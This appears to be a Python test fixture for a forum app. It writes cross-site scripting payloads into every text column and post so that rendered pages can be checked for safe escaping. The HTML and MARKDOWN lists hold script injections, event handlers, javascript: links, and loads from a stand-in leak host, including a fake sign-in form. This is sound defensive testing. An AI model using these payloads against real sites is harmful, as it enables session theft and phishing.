"""A forum in which every text that anybody ever gave is hostile, written past all checks.

What a form or an import would clean stands here as it is: each page has to be harmless by itself.
A new column of texts, and a new table, are found by themselves.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date
from typing import Any

from sqlalchemy import JSON, Column, Table, func, insert, select, update
from sqlalchemy.types import String

from forum.accounts.models import Member
from forum.db import EnumText, UtcDateTime, db, utcnow
from forum.richtext import render
from forum.threads.models import Post

HTML = [
    "<script>pwn()</script>",
    "\"><img src=x onerror=pwn()>",
    "' onmouseover='pwn()' autofocus onfocus='pwn()",
    "</script><script>pwn()</script>",
    "</title><svg onload=pwn()>",
    "</textarea><script src=https://leak.test/x.js></script>",
    "</style><style>@import url(https://leak.test/x.css);</style>",
    "</noscript><iframe src=https://leak.test/ srcdoc='<script>pwn()</script>'></iframe>",
    "--><img src=https://leak.test/pixel.gif>",
    "]]><link rel=stylesheet href=//leak.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://leak.test/'>",
    "<base href=https://leak.test/>",
    "<form action=https://leak.test/><button autofocus>Sign in</button></form>",
    "<object data=https://leak.test/x.swf></object><embed src=https://leak.test/x>",
    "<video poster=https://leak.test/p.gif src=https://leak.test/v.mp4 autoplay onerror=pwn()>",
    "<details open ontoggle=pwn()><summary>more</summary></details>",
    "<a href=\"javascript:pwn()\">press</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph></table></math>",
    "<svg><use href='https://leak.test/i.svg#x'/><script>pwn()</script></svg>",
    "<p style=\"background:url(https://leak.test/b.gif)\">wide</p>",
    "&lt;img src=x onerror=pwn()&gt; &#60;script&#62;pwn()&#60;/script&#62;",
    "${pwn()} {{pwn()}} {%raw%}<script>pwn()</script>",
    "\\u003cscript>pwn()\\u003c/script> \u2028pwn()//",
    "javascript:pwn()//' \" ` <!--<script>",
]  # fmt: skip
MARKDOWN = [
    "[press](javascript:pwn())",
    "[press](<java\tscript:pwn()>)",
    "[press](JaVaScRiPt&colon;pwn())",
    "[press](data:text/html,<script>pwn()</script>)",
    "[press](vbscript:pwn() \"' onclick='pwn()\")",
    "![seen](https://leak.test/pixel.gif \"\\\"><script>pwn()</script>\")",
    "![seen](x\"onerror=\"pwn())",
    "<javascript:pwn()> <https://leak.test/\"onclick=pwn()>",
    "https://leak.test/\"onmouseover=pwn() www.leak.test/<script>pwn()</script>",
    "[pwn]\n\n[pwn]: javascript:pwn() \"x\"",
    "[![x](https://leak.test/a.png)](javascript:pwn())",
    "`<script>pwn()</script>`",
    "    <img src=x onerror=pwn()>",
    "## <img src=x onerror=pwn()> {#\"onclick=pwn()}",
    "> <script>pwn()</script>\n> [x]: javascript:pwn()",
    "| <script>pwn()</script> |\n| --- |\n| [x](javascript:pwn()) |",
]  # fmt: skip
# By these rows and pages are found, or they are numbers and names of our own.
KEPT = {
    *(
        "name",
        "username",
        "slug",
        "anchor",
        "username_key",
        "email",
        "password",
        "fs_uniquifier",
        "token_hash",
    ),
    *("digest", "care_region", "side", "render_version", "rules_version", "submit_token", "word"),
    *("root", "html", "source_url", "url", "granted_roles"),
}
LOG = "moderation_act"  # the database lets nobody change it


def make_hostile() -> None:
    """Give each table a row, and put hostile words into every text of every row."""
    tables = db.metadata.sorted_tables
    for table in tables:
        if table.name == LOG or not db.session.scalar(select(func.count()).select_from(table)):
            db.session.execute(insert(table).values(_row(table)))
    for place, (table, column) in enumerate(_texts(tables)):
        db.session.execute(update(table).values({column.name: words(place)}))
    nameable = words(0).replace("/", "")  # as an address can have it
    others = update(Member).where(Member.username_key != "rowan")  # whose page is looked at
    db.session.execute(others.values(username=nameable))
    source = "\n\n".join(MARKDOWN + HTML)
    rendered = render(source)
    db.session.execute(update(Post).values(source=source, html=rendered.html, text=rendered.text))
    db.session.commit()


def words(place: int) -> str:
    """Return all of them, and another one first at each place: what is long is cut there."""
    first = place % len(HTML)
    return " ".join(HTML[first:] + HTML[:first])


def _texts(tables: list[Table]) -> Iterator[tuple[Table, Column[Any]]]:
    for table in tables:
        if table.name != LOG:
            yield from ((table, column) for column in table.c if _is_text(column))


def _is_text(column: Column[Any]) -> bool:
    is_text = isinstance(column.type, String) and not column.foreign_keys
    return is_text and column.name not in KEPT and not column.primary_key


def _row(table: Table) -> dict[str, Any]:
    """Return what a row must have, what it says, and what it can point at."""
    return {
        column.name: _value(column)
        for column in table.c
        if column.foreign_keys or _is_text(column) or _must_be_given(column)
    }


def _must_be_given(column: Column[Any]) -> bool:
    has_value = column.nullable or column.default is not None or column.server_default is not None
    return not has_value and column is not column.table.autoincrement_column


def _value(column: Column[Any]) -> Any:
    for key in column.foreign_keys:
        return db.session.scalar(select(func.max(key.column)))
    if isinstance(column.type, EnumText):
        return next(iter(column.type.kind))
    if isinstance(column.type, UtcDateTime):
        return utcnow()
    if isinstance(column.type, JSON):
        return []
    return {str: words(0), date: utcnow().date(), bool: False, int: 1}[column.type.python_type]
